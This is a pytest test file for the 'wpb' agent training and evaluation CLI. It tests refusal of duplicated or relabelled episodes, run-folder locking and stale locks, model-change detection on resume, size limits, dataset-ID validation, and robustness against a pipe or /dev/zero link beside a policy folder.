def test_an_episode_both_in_training_and_held_out_is_refused(tmp_path, capsys):
    training = write_episodes(tmp_path / "train.jsonl", ["default"] * 2)
    held_out = write_episodes(tmp_path / "held.jsonl", ["default"] * 2, indices={0: 5, 1: 1})
    line = refused(capsys, *_train_argv(tmp_path, training, held_out))
    assert f"{training}:2 and {held_out}:2 hold the same episode" in line, line
    assert "chosen on an episode it trained on" in line and not (tmp_path / "trained").exists()


def _relabelled(path: Path, source: Path, line: int, episode_id: int) -> Path:
    """``source``'s episode on ``line`` (from 1) with only its ``labels.episode_id`` changed, appended to ``path``."""
    data = json.loads(source.read_text().splitlines()[line - 1])
    data["labels"]["episode_id"] = episode_id
    with path.open("a") as handle:
        handle.write(json.dumps(data) + "\n")
    return path


def test_the_same_episode_relabelled_is_refused_as_given_twice_to_eval(tmp_path, capsys):
    # Was: another episode_id gave another episode_hash, so one stream counted twice.
    episodes = write_episodes(tmp_path / "a.jsonl", ["default"] * 2)
    _relabelled(episodes, episodes, 1, 99)
    out = tmp_path / "run"
    line = refused(capsys, "eval", *FROM_FILES, "--episodes", episodes, "--out", out)
    assert f"{episodes}:1 and {episodes}:3 hold the same steps under other labels" in line, line
    assert "count twice" in line and not out.exists()


def test_the_same_episode_relabelled_in_training_and_held_out_is_refused(tmp_path, capsys):
    # Was: the best model chosen on an episode it trained on, its episode_id alone changed.
    training = write_episodes(tmp_path / "train.jsonl", ["default"] * 2)
    held_out = _relabelled(tmp_path / "held.jsonl", training, 2, 77)
    line = refused(capsys, *_train_argv(tmp_path, training, held_out))
    assert f"{training}:2 and {held_out}:1 hold the same steps under other labels" in line, line
    assert "chosen on an episode it trained on" in line and not (tmp_path / "trained").exists()


def test_distinct_training_and_held_out_episodes_train(tmp_path, capsys):
    training = write_episodes(tmp_path / "train.jsonl", ["default"] * 2)
    held_out = write_episodes(tmp_path / "held.jsonl", ["default"] * 2, indices={0: 5, 1: 6})
    code, err = wpb(capsys, *_train_argv(tmp_path, training, held_out))
    assert code == 0, err
    assert (tmp_path / "trained" / "learner.json").is_file()


# ---------------------------------------------------------------------------- two runs, one folder

# A `wpb eval` in another process that stops inside its first episode until `go` exists.
_HELD_RUN = """
import sys, time
from pathlib import Path
from wpb_gym.cli import main
from wpb_gym.evaluation import grid

real, go = grid.run_task, Path(sys.argv[1])

def waiting(task):
    print("playing", flush=True)
    while not go.exists():
        time.sleep(0.05)
    return real(task)

grid.run_task = waiting
sys.exit(main(sys.argv[2:]))
"""


def _held_run(tmp_path: Path, *argv) -> tuple[subprocess.Popen, Path]:
    """A `wpb eval argv` in another process, once it is playing its first episode, and the file
    that lets it go on."""
    go = tmp_path / "go"
    env = {**os.environ, "PYTHONPATH": os.pathsep.join([str(ROOT), os.environ.get("PYTHONPATH", "")])}
    process = subprocess.Popen(
        [sys.executable, "-c", _HELD_RUN, str(go), "eval", *map(str, argv)],
        stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=env,
    )
    assert process.stdout.readline() == "playing\n", process.communicate()
    return process, go


def test_a_second_eval_writing_the_same_out_at_once_is_refused_naming_the_first(tmp_path, capsys):
    out = tmp_path / "run"
    first, go = _held_run(tmp_path, *TINY, "--regimes", "burst_drift", "--out", out)
    try:
        before = snapshot(out)
        for extra in ([], ["--force"], ["--resume"]):
            line = refused(capsys, "eval", *TINY, "--out", out, *extra)
            assert str(out) in line and f"pid {first.pid}" in line, line
        assert snapshot(out) == before  # the refused runs touched nothing
    finally:
        go.touch()
        assert first.wait(timeout=120) == 0, first.communicate()
    assert {line.split(",")[0] for line in (out / "results.csv").read_text().splitlines()[1:]} == {"burst_drift"}
    assert not [p.name for p in out.iterdir() if p.name.startswith(".")]  # no lock file left behind


def test_a_run_killed_while_it_held_its_folder_does_not_lock_it_for_ever(tmp_path, capsys):
    out = tmp_path / "run"
    first, _ = _held_run(tmp_path, *TINY, "--out", out)
    first.kill()  # SIGKILL: no chance to release anything
    first.wait(timeout=60)
    assert wpb(capsys, "eval", *TINY, "--out", out)[0] == 0
    assert (out / "results.csv").is_file()
    assert not [p.name for p in out.iterdir() if p.name.startswith(".")]


def test_a_run_that_published_while_the_second_waited_to_claim_the_folder_is_kept(tmp_path, capsys, monkeypatch):
    """Both runs found no results.csv; the first published before the second claimed the folder."""
    out = tmp_path / "run"
    assert wpb(capsys, "eval", *TINY, "--regimes", "burst_drift", "--out", tmp_path / "other")[0] == 0
    real = run_folder.claim

    def published_meanwhile(folder):
        shutil.copytree(tmp_path / "other", folder, dirs_exist_ok=True)
        return real(folder)

    monkeypatch.setattr(run_folder, "claim", published_meanwhile)
    assert "already holds results.csv" in refused(capsys, "eval", *TINY, "--out", out)
    assert (out / "results.csv").read_bytes() == (tmp_path / "other" / "results.csv").read_bytes()
    assert not [p.name for p in out.iterdir() if p.name.startswith(".")]


def test_without_fcntl_the_run_says_its_folder_is_not_locked(tmp_path, capsys, monkeypatch):
    monkeypatch.setattr(run_folder, "fcntl", None)
    code, err = wpb(capsys, "eval", *TINY, "--out", tmp_path / "run")
    assert code == 0 and "not locked" in err, err


# ---------------------------------------------------------------------------- --resume and models


def _interrupt_after(monkeypatch, episodes: int) -> list[int]:
    """Make the grid stop (KeyboardInterrupt) once ``episodes`` episodes were played; the list
    of those played."""
    real, calls = grid_module.run_task, []

    def interrupted(task):
        if len(calls) == episodes:
            raise KeyboardInterrupt
        calls.append(task.ref.index)
        return real(task)

    monkeypatch.setattr(grid_module, "run_task", interrupted)
    return calls


def _interrupted_run_with_a_model(tmp_path, monkeypatch) -> tuple[Path, list[str], list[int]]:
    """A run of fifo_store_all and an epsilon_greedy learner file, interrupted after 2 of its 3
    episodes: the model file, the eval's arguments (without --out), and the episodes the next
    run of the grid plays (recorded from then on)."""
    from agents.learners.bandits import EpsilonGreedyAgent

    model = tmp_path / "learner.json"
    EpsilonGreedyAgent(seed=0).save(model)
    argv = ["eval", *TINY, "--agents", f"fifo_store_all,epsilon_greedy:{model}", "--episodes-per-condition", "3"]
    real = grid_module.run_task
    _interrupt_after(monkeypatch, 2)
    with pytest.raises(KeyboardInterrupt):
        main(overriding_tiny([str(a) for a in argv]) + ["--out", str(tmp_path / "run")])
    calls: list[int] = []
    monkeypatch.setattr(grid_module, "run_task", lambda task: calls.append(task.ref.index) or real(task))
    return model, argv, calls


def test_resume_after_a_model_file_was_replaced_recomputes_its_rows(tmp_path, capsys, monkeypatch):
    from agents.learners.bandits import EpsilonGreedyAgent

    model, argv, calls = _interrupted_run_with_a_model(tmp_path, monkeypatch)
    EpsilonGreedyAgent(seed=1, epsilon=0.5).save(model)  # replaced between the interrupt and --resume
    code, err = wpb(capsys, *argv, "--out", tmp_path / "run", "--resume")
    assert code == 0 and "starting afresh" in err and "epsilon_greedy:learner" in err and "model" in err, err
    assert calls == [0, 1, 2]
    assert wpb(capsys, *argv, "--out", tmp_path / "fresh")[0] == 0
    assert (tmp_path / "run" / "results.csv").read_bytes() == (tmp_path / "fresh" / "results.csv").read_bytes()
    files = json.loads((tmp_path / "run" / "run.json").read_text())["config"]["agent_files"]
    assert files == {"epsilon_greedy:learner": {str(model): hashlib.sha256(model.read_bytes()).hexdigest()}}


def test_resume_with_the_same_model_files_reuses_the_checkpoints(tmp_path, capsys, monkeypatch):
    model, argv, calls = _interrupted_run_with_a_model(tmp_path, monkeypatch)
    model.write_bytes(model.read_bytes())  # touched, not changed
    code, err = wpb(capsys, *argv, "--out", tmp_path / "run", "--resume")
    assert code == 0 and "resuming: 2 of 3" in err and calls == [2], err


def test_a_model_folder_is_keyed_by_every_file_it_holds(tmp_path):
    folder = tmp_path / "checkpoint"
    (folder / "module" / "default").mkdir(parents=True)
    (folder / "module" / "default" / "weights.pt").write_bytes(b"one")
    (folder / "meta.json").write_text("{}")
    before = run_folder.input_digest(folder)
    (folder / "module" / "default" / "weights.pt").write_bytes(b"two")
    assert run_folder.input_digest(folder) != before
    (folder / "module" / "default" / "weights.pt").write_bytes(b"one")
    assert run_folder.input_digest(folder) == before
    (folder / "module" / "default" / "weights.pt").rename(folder / "module" / "weights.pt")  # the same bytes moved
    assert run_folder.input_digest(folder) != before


@pytest.mark.parametrize("exists", [False, True])
def test_an_out_folder_inside_the_model_folder_is_refused_before_any_work(tmp_path, capsys, exists):
    # Was: a raw ValueError traceback with --isolate (the sandbox cannot cover what is not there
    # yet), or, once it existed, the whole grid run and then refused as a model that changed.
    model = tmp_path / "pol"
    model.mkdir()
    (model / "policy.json").write_text("{}", encoding="utf-8")
    if exists:
        (model / "run").mkdir()
    code, err = wpb(capsys, "eval", "--agents", f"policy:{model}", "--isolate", "--lengths", "12",
                    "--episodes-per-condition", "1", "--budgets", "1KB", "--out", model / "run")
    assert code == 2 and len(err.strip().splitlines()) == 1 and "lies inside" in err and str(model) in err, err
    assert sorted(p.name for p in model.iterdir()) == ["policy.json", *(["run"] if exists else [])]
    assert not exists or not any((model / "run").iterdir())


@pytest.mark.parametrize("kind", ["named pipe", "link to /dev/zero"])
def test_a_pipe_or_device_beside_a_policy_folder_cannot_hang_wpb_eval(tmp_path, kind):
    # A submission holding pol/ and pol.env.json (which an exported policy never reads) as a
    # named pipe or a link to /dev/zero: the policy loads in its sandbox, then the evaluator
    # keyed its checkpoints by the content of that file, blocking (or reading zeros) for ever.
    import threading

    from wpb_gym.cli.evaluation import agent_files

    (tmp_path / "pol").mkdir()
    (tmp_path / "pol" / "policy.json").write_text("{}", encoding="utf-8")
    beside = tmp_path / "pol.env.json"
    if kind == "named pipe":
        os.mkfifo(beside)
    else:
        beside.symlink_to("/dev/zero")
    found: list = []
    reader = threading.Thread(target=lambda: found.append(agent_files([f"policy:{tmp_path / 'pol'}"])), daemon=True)
    reader.start()
    reader.join(20.0)
    assert found, f"wpb eval's digest of the agent's files still reads the {kind} after 20 s"
    assert list(found[0]["policy:pol"]) == [str(tmp_path / "pol")]  # the folder, not the pipe or device


def test_a_model_file_replaced_while_the_run_ran_is_refused_and_publishes_nothing(tmp_path, capsys, monkeypatch):
    from agents.learners.bandits import EpsilonGreedyAgent

    model = tmp_path / "learner.json"
    EpsilonGreedyAgent(seed=0).save(model)
    out = tmp_path / "run"
    argv = ["eval", *TINY, "--agents", f"fifo_store_all,epsilon_greedy:{model}", "--out", out]
    assert wpb(capsys, *argv)[0] == 0
    before = snapshot(out)
    real = grid_module.run_task

    def replacing(task):
        rows = real(task)
        EpsilonGreedyAgent(seed=task.ref.index + 1).save(model)  # the next episode reads another model
        return rows

    monkeypatch.setattr(grid_module, "run_task", replacing)
    line = refused(capsys, *argv, "--force")
    assert "epsilon_greedy:learner" in line and str(model) in line and "changed while" in line, line
    assert snapshot(out) == before  # the earlier run stays, and no checkpoint of mixed rows


# ---------------------------------------------------------------------------- sizes named before allocating
@pytest.mark.parametrize(
    ("argv", "named"),
    [
        (["train", "--algo", "ppo", "--env-kwargs", "length=1000000000", "--out", "{w}/t"],
         "length: expected at most 1,000,000"),
        (["train", "--algo", "ppo", "--env-kwargs", "api_pool=100000000", "--out", "{w}/t"],
         "api_pool: expected at most 1,000,000"),
        (["train", "--algo", "ppo", "--env-kwargs", "api_pool=100000", "max_params=1000", "--out", "{w}/t"],
         "api_pool x max_params: expected at most 16,777,216 together"),
        (["train", "--algo", "ppo", "--env-kwargs", "length=1000000", "max_params=100000", "--out", "{w}/t"],
         "length x max_params: expected at most 67,108,864 together"),
        (["train", "--algo", "ppo", "--env-kwargs", "doc_prob=0.1", "doc_max_bytes=1000000000", "--out", "{w}/t"],
         "doc_max_bytes: expected at most 1,048,576"),
        (["train", "--algo", "ppo", "--env-kwargs", "regime=queries_easy", "length=100000000", "--out", "{w}/t"],
         "QueryTierConfig.length: expected at most 1,000,000"),
        (["dataset", "--agent", "no_mem", "--dataset-id", "wpb/x-v0", "--env-kwargs", "length=1000000000",
          "--out", "{w}/t"], "length: expected at most 1,000,000"),
    ],
)
def test_a_huge_episode_size_is_refused_before_anything_is_allocated(tmp_path, capsys, argv, named):
    """A length of 1e9 steps (or a pool of 1e8 endpoints) used to reach numpy, which tried a
    44.7 GiB allocation and ended the command with a raw MemoryError."""
    if argv[0] == "dataset":
        pytest.importorskip("minari")
    line = refused(capsys, *[a.format(w=tmp_path) for a in argv])
    assert named in line, line
    assert not (tmp_path / "t").exists()


@pytest.mark.parametrize("dataset_id", ["wpb/x-v-1", "wpb/x", "wpb/x-v1.5", "../x-v0"])
def test_a_dataset_id_without_a_whole_version_is_a_named_error(tmp_path, capsys, dataset_id):
    """``wpb/x-v-1`` matched Minari's pattern with no version at all, and Minari's int(None)
    ended the command with a raw TypeError."""
    pytest.importorskip("minari")
    line = refused(capsys, "dataset", "--agent", "no_mem", "--dataset-id", dataset_id, "--out", tmp_path / "t")
    assert "--dataset-id: expected NAMESPACE/NAME-vVERSION" in line and repr(dataset_id) in line, line
    assert not (tmp_path / "t").exists()


def test_a_report_while_an_eval_writes_the_folder_is_refused_naming_it(tmp_path, capsys):
    # wpb report writes its tables into the run folder: not while wpb eval is rewriting it.
    out = tmp_path / "run"
    assert wpb(capsys, "eval", *TINY, "--regimes", "burst_drift", "--out", out)[0] == 0
    first, go = _held_run(tmp_path, *TINY, "--regimes", "burst_drift", "--out", out, "--force")
    try:
        before = snapshot(out)
        line = refused(capsys, "report", out, "--f1-by-budget")
        assert f"RUN {out}: another wpb eval or report (pid {first.pid})" in line, line
        assert snapshot(out) == before
    finally:
        go.touch()
        assert first.wait(timeout=120) == 0, first.communicate()
    assert wpb(capsys, "report", out, "--f1-by-budget")[0] == 0
    assert (out / "f1_by_budget.md").is_file()
    assert not [p.name for p in out.iterdir() if p.name.startswith(".")]  # no lock file left behind
    missing = tmp_path / "missing"
    refused(capsys, "report", missing)
    assert not missing.exists()  # a report of nothing makes no folder
